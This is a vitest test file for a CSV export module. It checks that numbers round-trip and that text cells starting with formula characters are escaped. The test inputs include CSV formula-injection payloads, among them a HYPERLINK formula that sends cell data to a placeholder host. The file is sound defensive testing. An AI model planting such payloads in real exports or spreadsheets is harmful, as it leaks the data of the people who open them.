import { expect, test } from 'vitest';

import { csvNumber, csvText } from './csv.ts';

test('numbers in CSV read back as the same', () => {
  expect([0.1, -0, NaN, Infinity, -Infinity, undefined].map(csvNumber)).toEqual([
    '0.1',
    '-0.0',
    'nan',
    'inf',
    '-inf',
    '',
  ]);
});

test('rule 76: a text of a download is no formula', () => {
  const formulas = {
    '=1+1': "'=1+1",
    '+A1': "'+A1",
    '-A1': "'-A1",
    '@SUM(A1)': "'@SUM(A1)",
    '\t=1': '"\'\t=1"',
    '\r=1': '"\'\r=1"',
    '\n=1': '"\'\n=1"',
    '＝1': "'＝1",
    '＋A1': "'＋A1",
    '－A1': "'－A1",
    '＠A1': "'＠A1",
    '=HYPERLINK("http://x/?"&A1,"a")': '"\'=HYPERLINK(""http://x/?""&A1,""a"")"',
  };
  // `Number` would accept some of these texts, because it skips spaces and ends of lines.
  const notQuiteNumbers = {
    '-': "'-",
    '-1+1': "'-1+1",
    '+e5': "'+e5",
    '-.': "'-.",
    '-1e': "'-1e",
    '＋1': "'＋1",
    '-0x1': "'-0x1",
    '-1 ': '"\'-1 "',
    '-1\n': '"\'-1\n"',
    '\t1': '"\'\t1"',
    '\n': '"\'\n"',
  };
  const others = {
    'a=b': 'a=b',
    "'=1": "'=1",
    ' =1': '" =1"',
    'a ': '"a "',
    'a,=1': '"a,=1"',
    'a;=1': '"a;=1"',
    'a\t=1': '"a\t=1"',
    'a\r=1': '"a\r=1"',
    'a\n=1': '"a\n=1"',
    'a"b': '"a""b"',
    'ä b': 'ä b',
  };
  for (const [text, cell] of Object.entries({ ...formulas, ...notQuiteNumbers, ...others }))
    expect(csvText(text)).toBe(cell);
  const signed = ['-1', '+1.5e3', '-0', '-.5', '-5.', '-2E-7', '+1e999'];
  const special = ['-inf', '+INF', '-Infinity', '-nan'];
  const written = [-1, -1.5e-300, -0, -Infinity, -Number.MAX_VALUE].map(csvNumber);
  for (const number of [...signed, ...special, ...written]) expect(csvText(number)).toBe(number);
});
